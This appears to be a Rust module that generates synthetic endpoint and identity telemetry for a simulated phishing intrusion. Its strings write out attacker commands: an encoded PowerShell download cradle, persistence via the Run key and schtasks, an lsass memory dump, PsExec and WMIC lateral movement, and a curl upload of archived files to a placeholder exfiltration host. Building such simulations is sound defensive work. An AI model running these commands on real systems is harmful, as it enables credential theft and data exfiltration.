//! The intrusion: from an invoice in the mail to data leaving the company, over three days.
//!
//! Every scene is one row. Ids are those of the background: the same company, the same residents as parents,
//! the same hashes for a file of the same name wherever it turns up.

use super::alerts::Alert;
use super::company::{Company, DOMAIN};
use super::endpoint::{Connection, FileChange, Logon, RegistryValue, put_action, short};
use super::identity::Request;
use super::mail::{Message, write_removal};
use super::process::{Account, Process};
use super::random::Random;
use super::rows::Rows;
use super::world::World;
use super::{cloud, inventory};

/// Where the mail leads, and what serves the payload and its commands.
pub(super) const LURE: &str = "https://ledger-billing.example/view/88213";
pub(super) const CONTROL_HOST: &str = "cdn.quietharbor-updates.example";
pub(super) const CONTROL_IP: &str = "203.0.113.77";
const LURE_IP: &str = "203.0.113.20";
const EXFILTRATION_HOST: &str = "files.driftwood-share.example";
const EXFILTRATION_IP: &str = "203.0.113.145";
const DOCUMENT: &str = "Invoice_88213.docm";
pub(super) const PAYLOAD: &str = "svcupd.exe";
const ARCHIVE: &str = "q3-designs.7z";
/// `IEX (New-Object Net.WebClient).DownloadString('https://cdn.quietharbor-updates.example/u')` in UTF-16.
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAuAHEAdQBpAGUAdABoAGEAcgBiAG8AcgAtAHUAcABkAGEAdABlAHMALgBlAHgAYQBtAHAAbABlAC8AdQAnACkA";

const MINUTE: i64 = 60_000_000;
const SECOND: i64 = 1_000_000;

/// Puts the cells of a row.
type WriteRow = dyn Fn(&World, &mut Rows) + Send + Sync;

/// A row of the intrusion.
pub(super) struct Scene {
    pub(super) table: &'static str,
    pub(super) at: i64,
    pub(super) write: Box<WriteRow>,
}

/// Every scene, in order of time.
pub(super) fn scenes(world: &World) -> Vec<Scene> {
    let mut story = Story::new(world);
    let powershell = story.delivery();
    let implant = story.foothold(&powershell);
    story.beacons(&implant);
    story.credentials(&implant);
    story.discovery(&implant);
    story.lateral_movement(&implant);
    story.exfiltration();
    let mut scenes = story.scenes;
    scenes.sort_by_key(|scene| scene.at);
    scenes
}

struct Story<'w> {
    world: &'w World,
    /// Who opens the invoice, and so the first device.
    victim: usize,
    /// Whose password is stolen from it.
    admin: usize,
    server: usize,
    random: Random,
    scenes: Vec<Scene>,
}

impl<'w> Story<'w> {
    fn new(world: &'w World) -> Story<'w> {
        let company = &world.company;
        Story {
            world,
            victim: company.first_of("Finance"),
            admin: company.first_of("IT"),
            server: company.server("SRV-FILE01"),
            random: Random::of(world.seed, "story", &[]),
            scenes: Vec::new(),
        }
    }

    /// A time on the story's first, second or third day, which are one and the same in a plan of one day.
    fn time(&self, day: u32, hour: i64, minute: i64) -> i64 {
        let days = self.world.calendar.days();
        let first = days.saturating_sub(3) / 2;
        self.world.calendar.midnight((first + day).min(days - 1)) + (hour * 60 + minute) * MINUTE
    }

    fn scene(&mut self, table: &'static str, at: i64, write: impl Fn(&World, &mut Rows) + Send + Sync + 'static) {
        self.scenes.push(Scene { table, at, write: Box::new(write) });
    }

    /// `parent` starts a program: a row, and the process for later scenes.
    fn starts(&mut self, parent: &Process, at: i64, file: &str, command_line: &str, account: Account) -> Process {
        let process = parent.child(file, command_line.to_owned(), account, at, self.random.next());
        let (starter, started) = (parent.clone(), process.clone());
        self.scene("DeviceProcessEvents", at, move |world, row| started.write_created(world, &starter, row));
        process
    }

    fn connects(&mut self, process: &Process, at: i64, ip: &'static str, port: i64, url: &'static str) {
        let (process, local_port) = (process.clone(), 50_000 + self.random.below(10_000) as i64);
        self.scene("DeviceNetworkEvents", at, move |world, row| {
            Connection { action: "ConnectionSuccess", ip, port, url, local_port }.write(world, &process, row);
        });
    }

    fn creates(
        &mut self,
        process: &Process,
        at: i64,
        folder: String,
        name: &'static str,
        size: i64,
        origin: &'static str,
    ) {
        let process = process.clone();
        self.scene("DeviceFileEvents", at, move |world, row| {
            FileChange { action: "FileCreated", name, folder: &folder, size, origin }.write(world, &process, row);
        });
    }

    fn does(&mut self, process: &Process, at: i64, action: &'static str, fields: &'static str) {
        let process = process.clone();
        self.scene("DeviceEvents", at, move |world, row| {
            process.write_initiator(world, row);
            put_action(row, action, fields);
        });
    }

    /// An alert and what it is about: a process.
    fn raises(
        &mut self,
        at: i64,
        process: &Process,
        title: &'static str,
        category: &'static str,
        severity: &'static str,
        techniques: &'static str,
    ) {
        let id = format!("da{}_{}", 638_900_000_000_000_000 + self.random.below(1 << 40), self.random.below(1 << 31));
        let (service, source) = ("Microsoft Defender for Endpoint", "EDR");
        let alert = Alert { id, title, category, severity, service, source, techniques };
        let (evidence, machine, process) = (alert.clone(), alert.clone(), process.clone());
        let device = process.clone();
        self.scene("AlertInfo", at, move |_, row| alert.write(row));
        self.scene("AlertEvidence", at, move |world, row| evidence.write_process(world, &process, row));
        self.scene("AlertEvidence", at, move |world, row| {
            machine.write_evidence("Machine", "Impacted", row);
            device.write_device(world, row);
        });
    }

    /// The mail, the click, the document and its macro. Answers with the encoded PowerShell.
    fn delivery(&mut self) -> Process {
        let at = self.time(0, 9, 12);
        let message = self.invoice();
        let (url, attachment, click, removal) = (message.clone(), message.clone(), message.clone(), message.clone());
        self.scene("EmailEvents", at, move |world, row| message.write(world, row));
        self.scene("EmailUrlInfo", at, move |_, row| url.write_url(LURE, row));
        self.scene("EmailAttachmentInfo", at, move |world, row| {
            attachment.write_attachment(world, DOCUMENT, 84_113, row);
        });
        self.scene("UrlClickEvents", at + 19 * MINUTE, move |world, row| {
            click.write_click(world, LURE, "192.0.2.14", row);
        });
        self.scene("EmailPostDeliveryEvents", self.time(2, 21, 40), move |world, row| {
            write_removal(world, &removal, "Phish ZAP", row);
        });

        let clicked = at + 19 * MINUTE;
        let browser = Process::resident_named(self.world, self.victim, "chrome.exe");
        self.connects(&browser, clicked + 2 * SECOND, LURE_IP, 443, "ledger-billing.example");
        let downloads = format!(r"C:\Users\{}\Downloads", browser.account_name(self.world));
        let command = format!(r#""WINWORD.EXE" /n "{downloads}\{DOCUMENT}" /o """#);
        self.creates(&browser, clicked + 9 * SECOND, downloads, DOCUMENT, 84_113, LURE);
        let explorer = Process::resident_named(self.world, self.victim, "explorer.exe");
        let word = self.starts(&explorer, clicked + 70 * SECOND, "WINWORD.EXE", &command, Account::User(self.victim));
        let command = format!("powershell.exe -NoP -W Hidden -Enc {ENCODED}");
        self.starts(&word, clicked + 95 * SECOND, "powershell.exe", &command, Account::User(self.victim))
    }

    /// The payload, its start, and how it comes back after a restart. Answers with the running payload.
    fn foothold(&mut self, powershell: &Process) -> Process {
        let at = powershell.created;
        let user = Account::User(self.victim);
        let folder = format!(r"C:\Users\{}\AppData\Roaming\Microsoft\Update", powershell.account_name(self.world));
        let path = format!(r"{folder}\{PAYLOAD}");
        self.does(
            powershell,
            at + SECOND,
            "AmsiScriptContent",
            r#"{"Description":"IEX (New-Object Net.WebClient).DownloadString"}"#,
        );
        self.connects(powershell, at + 2 * SECOND, CONTROL_IP, 443, CONTROL_HOST);
        self.creates(
            powershell,
            at + 5 * SECOND,
            folder,
            PAYLOAD,
            418_304,
            "https://cdn.quietharbor-updates.example/u",
        );
        let implant = self.starts(powershell, at + 12 * SECOND, PAYLOAD, &format!("\"{path}\" -s"), user);
        let (setter, data) = (implant.clone(), path.clone());
        self.scene("DeviceRegistryEvents", at + 15 * SECOND, move |world, row| {
            let key = r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run";
            RegistryValue { key, name: "ServiceUpdate", data: &data }.write(world, &setter, row);
        });
        let command =
            format!(r#"schtasks.exe /create /tn "Microsoft\Windows\ServiceUpdate" /sc hourly /tr "{path}" /f"#);
        let task = self.starts(&implant, at + 21 * SECOND, "schtasks.exe", &command, user);
        self.does(
            &task,
            at + 22 * SECOND,
            "ScheduledTaskCreated",
            r#"{"TaskName":"\\Microsoft\\Windows\\ServiceUpdate"}"#,
        );
        let unsigned = implant.clone();
        self.scene("DeviceFileCertificateInfo", at + 30 * SECOND, move |world, row| {
            inventory::write_signature(world, &unsigned, row);
        });
        self.raises(
            at + 4 * MINUTE,
            powershell,
            "Suspicious PowerShell download from Office",
            "Execution",
            "Medium",
            r#"["PowerShell (T1059.001)","Malicious File (T1204.002)"]"#,
        );
        implant
    }

    /// The payload asks for commands every half hour or so until it is found.
    fn beacons(&mut self, implant: &Process) {
        let mut at = implant.created + 40 * SECOND;
        while at < self.time(2, 21, 30) {
            self.connects(implant, at, CONTROL_IP, 443, CONTROL_HOST);
            at += 29 * MINUTE + self.random.below(120) as i64 * SECOND;
        }
    }

    /// The memory of lsass is read for the password of an administrator who helped out here.
    fn credentials(&mut self, implant: &Process) {
        let at = self.time(0, 13, 20);
        let lsass = Process::resident_named(self.world, self.victim, "lsass.exe");
        for (after, action, fields) in [
            (0, "OpenProcessApiCall", r#"{"DesiredAccess":2097151}"#),
            (SECOND, "ReadProcessMemoryApiCall", r#"{"TotalBytesCopied":61865984}"#),
        ] {
            let (reader, target) = (implant.clone(), lsass.clone());
            self.scene("DeviceEvents", at + after, move |world, row| {
                reader.write_initiator(world, row);
                put_action(row, action, fields);
                row.put("FileName", "lsass.exe");
                target.write_target(world, row);
            });
        }
        let folder = r"C:\Windows\Temp".to_owned();
        self.creates(implant, at + 6 * SECOND, folder, "lsa.dmp", 61_865_984, "");
        self.raises(
            at + 3 * MINUTE,
            implant,
            "Sensitive credential memory read",
            "CredentialAccess",
            "High",
            r#"["LSASS Memory (T1003.001)"]"#,
        );
    }

    /// Who is who: administrators, controllers, shares.
    fn discovery(&mut self, implant: &Process) {
        let (at, user) = (self.time(1, 13, 2), Account::User(self.victim));
        for (minute, file, command) in [
            (0, "whoami.exe", "whoami /all"),
            (1, "nltest.exe", "nltest /domain_trusts"),
            (2, "net.exe", r#"net group "Domain Admins" /domain"#),
            (4, "net.exe", r"net view \\SRV-FILE01 /all"),
        ] {
            self.starts(implant, at + minute * MINUTE, file, command, user);
        }
        self.does(implant, at + 5 * MINUTE, "LdapSearch", r#"{"SearchFilter":"(&(objectCategory=person)(adminCount=1))","DistinguishedName":"DC=kestrel,DC=example"}"#);
        let victim = self.victim;
        for (second, action, protocol, port, kind, query, target) in [
            (122, "SAMR query", "Samr", 445, "EnumerateUsers", "", "Domain Admins"),
            (300, "LDAP query", "Ldap", 389, "AllUsers", "(&(objectCategory=person)(adminCount=1))", DOMAIN),
            (301, "LDAP query", "Ldap", 389, "AllComputers", "(objectCategory=computer)", DOMAIN),
        ] {
            self.scene("IdentityQueryEvents", at + second * SECOND, move |world, row| {
                let user = &world.company.users[victim];
                Request { user, from: victim, action, protocol, port }.write(world, row);
                row.put("QueryType", kind);
                row.put("Query", query);
                row.put("QueryTarget", target);
            });
        }
    }

    /// To the file server with the stolen password: a remote service, WMI, then a desktop.
    fn lateral_movement(&mut self, implant: &Process) {
        let (at, user, admin) = (self.time(1, 13, 41), Account::User(self.victim), self.admin);
        let company: &Company = &self.world.company;
        let (host, address) =
            (short(&company.devices[self.server].name).to_owned(), company.devices[self.server].ip.clone());
        let name = &company.users[admin].account;
        let remote = format!(r"PsExec64.exe -accepteula \\{host} -u KESTREL\{name} -s cmd.exe /c whoami");
        let wmi = format!(r#"wmic /node:{host} process call create "cmd.exe /c net localgroup administrators""#);
        let psexec = self.starts(implant, at, "PsExec64.exe", &remote, user);
        self.reaches_server(&psexec, at + SECOND, address.clone(), 445);
        self.logs_on(at + 2 * SECOND, "Network", "NTLM");
        let services = Process::resident_named(self.world, self.server, "services.exe");
        self.does(&services, at + 3 * SECOND, "ServiceInstalled", r#"{"ServiceName":"PSEXESVC","ServiceStartType":3}"#);
        let service =
            self.starts(&services, at + 4 * SECOND, "PSEXESVC.exe", r"C:\Windows\PSEXESVC.exe", Account::System);
        self.starts(&service, at + 5 * SECOND, "cmd.exe", "cmd.exe /c whoami", Account::System);
        self.scene("IdentityDirectoryEvents", at + 4 * SECOND, move |world, row| {
            let (user, from) = (&world.company.users[admin], world.company.first_of("Finance"));
            Request { user, from, action: "Service creation", protocol: "Smb", port: 445 }.write(world, row);
        });
        let wmic = self.starts(implant, at + 9 * MINUTE, "WMIC.exe", &wmi, user);
        self.reaches_server(&wmic, at + 9 * MINUTE + SECOND, address.clone(), 135);
        self.reaches_server(implant, at + 26 * MINUTE, address, 3389);
        self.logs_on(at + 26 * MINUTE + 4 * SECOND, "RemoteInteractive", "Negotiate");
        self.raises(
            at + 30 * MINUTE,
            &service,
            "Suspicious remote service execution",
            "LateralMovement",
            "High",
            r#"["SMB/Windows Admin Shares (T1021.002)","Service Execution (T1569.002)"]"#,
        );
    }

    /// Designs are packed on the server, sent away, and what was in the cloud follows.
    fn exfiltration(&mut self) {
        let (at, admin) = (self.time(2, 20, 14), self.admin);
        let explorer = Process::resident_named(self.world, self.server, "svchost.exe");
        let shell = self.starts(&explorer, at, "cmd.exe", "cmd.exe", Account::User(admin));
        let pack = format!(r"7z.exe a -mhe -pK3str3l C:\Windows\Temp\{ARCHIVE} D:\Shares\Design");
        let packer = self.starts(&shell, at + MINUTE, "7z.exe", &pack, Account::User(admin));
        self.creates(&packer, at + 3 * MINUTE, r"C:\Windows\Temp".to_owned(), ARCHIVE, 412_316_672, "");
        let send = format!(r"curl.exe -T C:\Windows\Temp\{ARCHIVE} https://{EXFILTRATION_HOST}/drop");
        let sender = self.starts(&shell, at + 11 * MINUTE, "curl.exe", &send, Account::User(admin));
        self.connects(&sender, at + 11 * MINUTE + SECOND, EXFILTRATION_IP, 443, EXFILTRATION_HOST);
        for (minute, document) in
            [(18, "gyro-mk4-tolerances.xlsx"), (19, "supplier-contracts.docx"), (20, "lens-coating.docx")]
        {
            self.scene("CloudAppEvents", at + minute * MINUTE, move |world, row| {
                let activity = ("Microsoft SharePoint Online", 20_892, "FileDownloaded", "Download");
                cloud::write_activity(activity, &world.company.users[admin], EXFILTRATION_IP, "NL", document, row);
            });
        }
        self.raises(
            at + 40 * MINUTE,
            &sender,
            "Possible data exfiltration to a rare domain",
            "Exfiltration",
            "High",
            r#"["Exfiltration Over Web Service (T1567)","Archive via Utility (T1560.001)"]"#,
        );
    }

    fn invoice(&mut self) -> Message {
        Message {
            id: self.random.guid(),
            sender: "accounts@ledger-billing.example".to_owned(),
            sender_name: "Ledger Billing".to_owned(),
            sender_ip: LURE_IP.to_owned(),
            recipient: self.victim,
            subject: "Overdue: invoice 88213".to_owned(),
            threat: "",
            urls: 1,
            attachments: 1,
        }
    }

    fn reaches_server(&mut self, process: &Process, at: i64, address: String, port: i64) {
        let (process, server) = (process.clone(), self.server);
        let local_port = 50_000 + self.random.below(10_000) as i64;
        self.scene("DeviceNetworkEvents", at, move |world, row| {
            let url = &world.company.devices[server].name;
            Connection { action: "ConnectionSuccess", ip: &address, port, url, local_port }.write(world, &process, row);
        });
    }

    /// The administrator's account comes to the server from the first device.
    fn logs_on(&mut self, at: i64, kind: &'static str, protocol: &'static str) {
        let (victim, admin) = (self.victim, self.admin);
        let handler = Process::resident_named(self.world, self.server, "lsass.exe");
        self.scene("DeviceLogonEvents", at, move |world, row| {
            let from = &world.company.devices[victim];
            let (from_device, from_ip) = (short(&from.name), from.ip.as_str());
            Logon { action: "LogonSuccess", kind, user: admin, protocol, from_device, from_ip }
                .write(world, &handler, row);
        });
        self.scene("IdentityLogonEvents", at, move |world, row| {
            let user = &world.company.users[admin];
            Request { user, from: victim, action: "LogonSuccess", protocol: "Ntlm", port: 88 }.write(world, row);
            row.put("LogonType", "Credentials validation");
            row.put("TargetDeviceName", &world.company.devices[world.company.server("SRV-FILE01")].name);
        });
    }
}
